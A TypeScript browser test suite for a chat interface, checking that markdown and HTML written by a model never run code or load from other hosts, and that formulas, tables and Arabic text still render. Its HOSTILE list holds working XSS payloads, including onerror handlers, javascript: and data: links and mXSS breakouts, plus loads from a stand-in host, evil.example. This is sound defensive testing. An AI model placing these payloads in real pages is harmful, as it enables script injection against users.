// What a model writes is text: whatever it tries, nothing of it runs, loads or leads away, in a real Chromium under the
// policy the page is served with. And what it writes in good faith is drawn: formulas, right-to-left text, tables.
import { afterAll, expect, test } from "vitest";
import { picture } from "./browser.ts";
import { type EchoModel, echoSettings, startEchoModel } from "./echo-model.ts";
import { answers, ask, copied, ended, fits, PATIENCE, violations } from "./page-kit.ts";
import { onStage } from "./page-stage.ts";

/** Things a model might write to be run. Each sets `window.ran`, opens a dialog, or asks another server. */
const HOSTILE = [
  "<script>window.ran=1</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=window.ran=1>",
  "<svg onload=window.ran=1><script>window.ran=1</script></svg>",
  "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ran=1&gt;'>",
  "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<details open ontoggle=window.ran=1>x</details>",
  "<video><source onerror=window.ran=1></video>",
  "<form action='javascript:window.ran=1'><button>x</button></form>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/p) }</style>",
  "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
  "<template><img src=x onerror=window.ran=1></template>",
  "<b style='background:url(https://evil.example/p)' onmouseover=window.ran=1>x</b>",
  "[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) [c](&#106;avascript:window.ran=1)",
  "[d](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=) [e](vbscript:x) [f](file:///etc/passwd)",
  "![pixel](https://evil.example/pixel.png)",
  '![q](https://evil.example/p.png" onerror="window.ran=1)',
  "```html\n</code></pre><img src=x onerror=window.ran=1>\n```",
  '```"><img/src=x/onerror=window.ran=1>\ncode\n```',
  "| <img src=x onerror=window.ran=1> | b |\n| - | - |\n| [x](javascript:window.ran=1) | d |",
  "$\\href{javascript:window.ran=1}{x}$ $\\url{javascript:window.ran=1}$ $\\includegraphics{https://evil.example/p.png}$",
  '$\\htmlData{onclick=window.ran=1}{x}$ $<img src=x onerror=window.ran=1>"$',
  "</div></div></article><script>window.ran=1</script>",
];

const GOOD = [
  "So $e^{i\\pi} + 1 = 0$, and\n\n$$\n\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}\n$$\n\nfrom $5 to $10.",
  "النهر مجرى مائي طبيعي واسع ذو ضفتين.",
  "| a | b |\n| - | -: |\n| 1 | 2 |",
].join("\n\n");

const TEXTS: Readonly<Record<string, string>> = { hostile: HOSTILE.join("\n\n"), good: GOOD };

let model: EchoModel;

async function set() {
  model = await startEchoModel((prompt) => TEXTS[prompt] ?? "…");
  return { env: { ...echoSettings(model), DEFAULT_TIER: "mvp" } };
}

onStage("what a model writes", set, (stage) => {
  afterAll(() => model?.close());

  async function guarded() {
    const { page } = await stage.open();
    const trespasses: string[] = [];
    page.on("dialog", (dialog) => {
      trespasses.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (request) => {
      const { protocol, host } = new URL(request.url());
      if (protocol !== "data:" && protocol !== "blob:" && host !== new URL(stage.stack.url).host) {
        trespasses.push(`request ${request.url()}`);
      }
    });
    await page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", (event) => {
        const seen = JSON.parse(sessionStorage.getItem("violations") ?? "[]");
        sessionStorage.setItem(
          "violations",
          JSON.stringify([...seen, `${event.violatedDirective} ${event.blockedURI}`]),
        );
      });
    });
    // Again, with a guard from the first moment on.
    await page.reload();
    return { page, trespasses };
  }

  test("in bad faith, while it comes and when it is read again: nothing runs, nothing is asked for elsewhere", async () => {
    const { page, trespasses } = await guarded();
    const policy = (await page.request.get(stage.stack.url)).headers()["content-security-policy"] ?? "";
    expect(policy).toMatch(/script-src 'self'(;|$)/);
    await ask(page, "hostile");
    await ended(answers(page));
    await page.reload();
    await ended(answers(page));
    // Whatever would run runs when its turn comes: a few turns go by.
    await page.evaluate(async () => {
      for (let turn = 0; turn < 30; turn++) await new Promise((next) => requestAnimationFrame(next));
    });
    // Every link there is, leads to the web and into a window of its own.
    for (const link of await page.locator(".markdown a").all()) {
      const href = await link.getAttribute("href");
      if (href === null) continue;
      expect(href).toMatch(/^https?:/);
      expect(await link.getAttribute("rel")).toContain("noopener");
    }
    expect(await page.locator(".markdown").locator("script, img, iframe, style, form, video, object").count()).toBe(0);
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
    expect(await page.evaluate(() => sessionStorage.getItem("violations"))).toBeNull();
    expect(trespasses).toEqual([]);
    expect(await copied(page, answers(page))).toBe(TEXTS.hostile);
    await picture(page, "hostile");
  });

  test("in good faith: formulas, tables, and right-to-left text are drawn", async () => {
    const { page, trespasses } = await guarded();
    await ask(page, "good");
    await ended(answers(page));
    await expect.poll(() => page.locator(".markdown .katex").count(), PATIENCE).toBe(2);
    expect(await page.getByText("from $5 to $10").count()).toBe(1);
    const arabic = page.getByText("النهر").last();
    expect(await arabic.evaluate((element) => getComputedStyle(element).direction)).toBe("rtl");
    expect(await violations(page)).toEqual([]);
    await fits(page);
    expect(trespasses).toEqual([]);
    expect(await page.evaluate(() => sessionStorage.getItem("violations"))).toBeNull();
    await picture(page, "formulas");
  });
});
